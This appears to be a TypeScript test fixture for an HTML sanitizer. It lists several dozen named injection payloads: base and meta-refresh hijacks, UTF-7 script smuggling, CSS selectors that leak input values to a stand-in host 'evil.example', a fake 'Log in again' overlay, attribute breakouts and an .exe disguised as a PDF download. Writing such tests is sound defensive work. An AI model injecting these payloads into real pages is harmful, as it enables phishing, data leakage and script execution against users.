import type { Attack } from '../attack.js';

/** Elements and attributes that change the page: bases, refreshes, styles, policies, targets. */
export const pagesAndStyles: readonly Attack[] = [
  ['a base', '<base href="https://evil.example/">'],
  ['a base of a script', '<base href="javascript:harm()//">'],
  ['a base of targets', '<base target="_top">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a refresh to a script', '<meta http-equiv="refresh" content="0;url=javascript:harm()">'],
  [
    'a refresh to a page in an address',
    '<meta http-equiv=refresh content="0,data:text/html,<script>harm()</script>">',
  ],
  ['a policy', '<meta http-equiv="content-security-policy" content="script-src \'none\'">'],
  ['a cookie', '<meta http-equiv="set-cookie" content="harm=1">'],
  ['a referrer policy', '<meta name="referrer" content="unsafe-url">'],
  ['a viewport', '<meta name="viewport" content="width=1">'],
  ['another character set', '<meta charset="utf-7">+ADw-script+AD4-harm()+ADw-/script+AD4-'],
  ['a title of the page', '<title>Harmed</title>'],
  [
    'a head of a page',
    '<html manifest=x: lang=xx><head profile="x:"><body background="x:" bgcolor=red>',
  ],
  ['a style sheet', '<style>*{display:none!important}</style>'],
  ['a style sheet that asks', '<style>@import "https://evil.example/a.css";</style>'],
  ['a style sheet that tells', '<style>input[value^=a]{background:url(//evil.example/a)}</style>'],
  ['a style sheet without an end', '<style>body{visibility:hidden}'],
  [
    'a style sheet of the host',
    '<style>:host,::slotted(*),:host-context(body){display:none}</style>',
  ],
  ['a style sheet by a link', '<link rel=stylesheet href="https://evil.example/a.css">'],
  [
    'a style sheet by a link in an address',
    '<link rel="stylesheet" href="data:text/css,*{color:red}">',
  ],
  ['an icon', '<link rel=icon href="https://evil.example/icon">'],
  [
    'a hint to ask in advance',
    '<link rel=preload as=script href=//evil.example/a.js><link rel=prefetch href=//evil.example/>',
  ],
  [
    'a hint to look up',
    '<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>',
  ],
  [
    'an import',
    '<link rel=import href=//evil.example/a.html><link rel=modulepreload href=//evil.example/a.js>',
  ],
  [
    'a cover over the page',
    '<p style="position:fixed;inset:0;z-index:2147483647;background:#fff">Log in again</p>',
  ],
  ['a style that tells', '<p style="background:url(https://evil.example/seen)">Seen</p>'],
  ['a style of a script', '<p style="background:url(javascript:harm())">Old</p>'],
  ['an expression', '<p style="width:expression(harm())">Old</p>'],
  [
    'a behaviour',
    '<p style="behavior:url(#harm);-moz-binding:url(//evil.example/a.xml#b)">Old</p>',
  ],
  ['an escaped style', '<p style="b\\61 ckground:u\\72l(//evil.example/)">Escaped</p>'],
  ['a style out of an attribute', 'x" style="position:fixed;inset:0" y="'],
  ['a style as text', '}*{display:none}:host{--publication-accent:url(//evil.example/)}'],
  [
    'a class and a part',
    '<p class="card frame hidden" part="card title" slot="cover" exportparts="a">Styled</p>',
  ],
  [
    'a private property',
    '<p style="--_accent:red;--publication-background:url(//evil.example)">Styled</p>',
  ],
  ['a target', '<a href="https://evil.example/" target="_blank">Opens</a>'],
  ['a target with an opener', '<a href="https://evil.example/" target=_blank rel=opener>Opens</a>'],
  ['a target on top', '<a href="https://evil.example/" target="_top">Opens</a>'],
  ['a target with a name', '<a href="https://evil.example/" target="harm" name=harm>Opens</a>'],
  [
    'a link that tells',
    '<a href="https://evil.example/" ping="https://evil.example/ping">Tells</a>',
  ],
  [
    'a link that saves',
    '<a href="https://evil.example/a.exe" download="report.pdf" type=text/html>Saves</a>',
  ],
  [
    'a link that says where from',
    '<a href="https://evil.example/" referrerpolicy="unsafe-url">Tells</a>',
  ],
  ['a link with an attribution', '<a href="https://evil.example/" attributionsrc>Tells</a>'],
  [
    'a link in a map',
    '<img usemap=#m src=x:><map name=m><area href=javascript:harm() shape=default></map>',
  ],
];
